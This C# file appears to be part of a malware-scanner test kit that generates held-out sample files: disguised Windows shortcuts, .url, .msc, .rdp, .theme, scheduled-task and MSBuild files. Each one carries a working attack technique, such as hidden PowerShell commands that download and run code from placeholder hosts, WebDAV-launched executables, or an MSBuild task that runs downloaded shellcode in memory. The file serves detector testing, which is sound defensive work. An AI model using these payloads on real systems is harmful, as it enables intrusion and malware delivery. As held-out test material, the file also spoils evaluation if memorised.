using System.Text;

namespace ScanHost.TestKit.HeldOut.Second;

/// <summary>Shortcuts with other launchers, other hiding places and other shapes.</summary>
public sealed class ShortcutForms : SecondRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("HWP_notice.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With(string.Concat(Enumerable.Repeat("\n\t \r", 90)) + "/c powershell -windowstyle hidden $d=Get-ChildItem *.lnk|where{$_.length -eq 0x1A40};$f=[IO.File]::ReadAllBytes($d.FullName);[IO.File]::WriteAllBytes($env:temp+'\\n.bat',$f[0x0E00..0x0F00]);&($env:temp+'\\n.bat')").Icon(@"C:\Program Files\Hnc\HOffice9\Bin\Hwp.exe").Build()),
        ("Resume.pdf.lnk", OddShortcuts.Link(relative: @"..\..\..\Windows\System32\pcalua.exe", arguments: @"-a \\192.0.2.91@80\DavWWWRoot\Resume.exe", icon: @"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe")),
        ("Photos.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\odbcconf.exe", arguments: "/a {REGSVR ~\\thumbs.db}", icon: @"%SystemRoot%\System32\imageres.dll")),
        ("Agenda.lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", arguments: "-c \"$x='i'+'ex';$y=[string]::Join('',(104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,57,50,47,97|%{[char]$_}));&$x (irm $y)\"", icon: @"C:\Windows\System32\shell32.dll")),
        ("Contract.lnk", new LinkBuilder().To(@"C:\Windows\System32\mshta.exe").With(@"C:\Users\Public\..\..\Contract.lnk").Append(Encoding.ASCII.GetBytes("<hta:application><script>new ActiveXObject('WScript.Shell').Run('powershell -w hidden -c iex(irm http://192.0.2.93/h)',0)</script>" + new string(' ', 300))).Build()),
        ("Drive (E).lnk", OddShortcuts.Link(relative: @"C:\Windows\System32\cmd.exe", arguments: "/V/R\"EXPLORER 'E:'&msiexec -Q /ihTtP://192.0.2.94:8080/Xq7/WORK=%USERNAME%\"", icon: @"%SystemRoot%\system32\SHELL32.dll")),
        ("Tax form.lnk", new LinkBuilder().Environment(@"%comspec%").Build()),
    ];
}

/// <summary>Small texts that Windows acts on.</summary>
public sealed class SettingsFiles : SecondRound
{
    private const string Console = "<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\" ProgramMode=\"UserSDI\">{0}</MMC_ConsoleFile>";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Invoice.url", Dos("[InternetShortcut]\nURL=file://192.0.2.101@8080/DavWWWRoot/Invoice.zip/Invoice.exe\nIconFile=C:\\Windows\\System32\\shell32.dll\nIconIndex=1\nShowCommand=7\n")),
        ("Diagnostics.url", Dos("[InternetShortcut]\nURL=C:\\Program Files\\Internet Explorer\\iediagcmd.exe\nWorkingDirectory=\\\\192.0.2.102@ssl@443\\DavWWWRoot\\x\nShowCommand=7\nIconIndex=13\nIconFile=C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\nModified=20F06BA06D07BD014D\n")),
        ("photo.url", Dos("[InternetShortcut]\nURL=mhtml:http://192.0.2.103/test.html!x-usc:http://192.0.2.103/test.html\nIconFile=C:\\Program Files\\Adobe\\Acrobat.exe\n")),
        ("Documents.library-ms", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><name>@windows.storage.dll,-34582</name><isLibraryPinned>true</isLibraryPinned><searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><simpleLocation><url>\\\\192.0.2.104@80\\DavWWWRoot</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>")),
        ("shared.searchConnector-ms", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"><description>Microsoft Outlook</description><isSearchOnlyItem>false</isSearchOnlyItem><simpleLocation><url>https://whatever.invalid@SSL\\DavWWWRoot\\</url></simpleLocation></searchConnectorDescription>")),
        ("sccm-updater.msc", Utf8(Console.Replace("{0}", "<BinaryStorage/><StringTables><StringTable><GUID>{71E5B33E-1064-11D2-808F-0000F875A9CE}</GUID><Strings><String ID=\"39\" Refs=\"1\">res://apds.dll/redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot().Name)</String><String ID=\"40\" Refs=\"1\">var d=external.Document.ScopeNamespace;var x=new ActiveXObject('Microsoft.XMLDOM');x.async=false;x.loadXML(unescape('%3Cstylesheet/%3E'));x.transformNode(x);</String></Strings></StringTable></StringTables>", StringComparison.Ordinal))),
        ("Readme.msc", Utf8(Console.Replace("{0}", "<ConsoleTaskpads><ConsoleTaskpad ListSize=\"Medium\" Name=\"1\"><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\"><String Name=\"Name\" ID=\"4\"/><Symbol><Image Name=\"Large\"/></Symbol><CommandLine Directory=\"\" WindowState=\"Minimized\" Params=\"/c powershell -w hidden -c &quot;iwr http://192.0.2.105/m.ps1 -o $env:temp\\m.ps1; powershell -ep bypass -f $env:temp\\m.ps1&quot;\"/></Task></Tasks></ConsoleTaskpad></ConsoleTaskpads>", StringComparison.Ordinal))),
        ("Zero Trust Check.rdp", Dos("full address:s:192.0.2.106\nalternate full address:s:192.0.2.106\nremoteapplicationmode:i:1\nremoteapplicationprogram:s:AWS Secure Storage Connection Stability Test\nredirectclipboard:i:1\ndrivestoredirect:s:*\nredirectprinters:i:1\nredirectsmartcards:i:1\nprompt for credentials:i:0\nauthentication level:i:0\nsignature:s:AQABAAEAAAA=\n")),
        ("desktop.theme", Dos("[Theme]\nDisplayName=Spring\n[Control Panel\\Desktop]\nWallpaper=\\\\192.0.2.107\\s\\w.jpg\nTileWallpaper=0\n[boot]\nSCRNSAVE.EXE=\\\\192.0.2.107\\s\\run.scr\n")),
        ("Report.job.xml", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"><Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Settings><Hidden>true</Hidden></Settings><Actions Context=\"Author\"><Exec><Command>mshta.exe</Command><Arguments>vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -w hidden -c iex(irm http://192.0.2.108/t)\"\", 0:close\")</Arguments></Exec></Actions></Task>")),
        ("build.csproj", Utf8("<Project ToolsVersion=\"4.0\" xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\"><Target Name=\"H\"><C /></Target><UsingTask TaskName=\"C\" TaskFactory=\"CodeTaskFactory\" AssemblyFile=\"C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll\"><Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[using System;using System.Runtime.InteropServices;using Microsoft.Build.Framework;using Microsoft.Build.Utilities;public class C:Task{[DllImport(\"kernel32\")]static extern IntPtr VirtualAlloc(IntPtr a,uint s,uint t,uint p);[DllImport(\"kernel32\")]static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);public override bool Execute(){byte[] b=new System.Net.WebClient().DownloadData(\"http://192.0.2.109/s\");IntPtr p=VirtualAlloc(IntPtr.Zero,(uint)b.Length,0x3000,0x40);Marshal.Copy(b,0,p,b.Length);CreateThread(IntPtr.Zero,0,p,IntPtr.Zero,0,IntPtr.Zero);return true;}}]]></Code></Task></UsingTask></Project>")),
        ("app.jnlp", Utf8("<?xml version=\"1.0\" encoding=\"utf-8\"?><jnlp spec=\"1.0+\" codebase=\"http://192.0.2.110:8080/\" href=\"app.jnlp\"><information><title>COVID-19 data</title><vendor>x</vendor></information><security><all-permissions/></security><resources><j2se version=\"1.6+\"/><jar href=\"fr.jar\" main=\"true\"/></resources><application-desc main-class=\"Main\"/></jnlp>")),
    ];
}
